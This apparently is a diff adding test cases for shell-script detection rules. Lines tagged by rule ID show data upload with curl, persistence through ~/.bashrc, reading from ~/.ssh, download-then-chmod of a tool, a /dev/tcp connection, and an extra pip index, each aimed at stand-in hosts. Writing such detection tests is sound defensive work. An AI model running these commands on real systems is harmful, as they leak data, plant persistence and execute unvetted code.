@@ -27,3 +27,19 @@ chmod 755 x
 cat < /dev/tcp/192.0.2.1/80
 # ruleid: shell.tls_unverified
 curl -k https://a.example
+# ruleid: shell.sends_data
+curl -s -d @log https://a.example/
+curl -s https://a.example/log
+# ruleid: shell.persists
+echo "app &" >> ~/.bashrc
+echo "app &" >> notes
+# ruleid: shell.reads_keys
+cp ~/.ssh/known_hosts .
+cp known_hosts .
+# ruleid: shell.fetched_then_run
+wget -q https://a.example/tool -O /tmp/tool
+chmod +x /tmp/tool
+wget -q https://a.example/list -O /tmp/list
+# ruleid: shell.other_index
+pip install --extra-index-url https://a.example/simple app
+pip install app
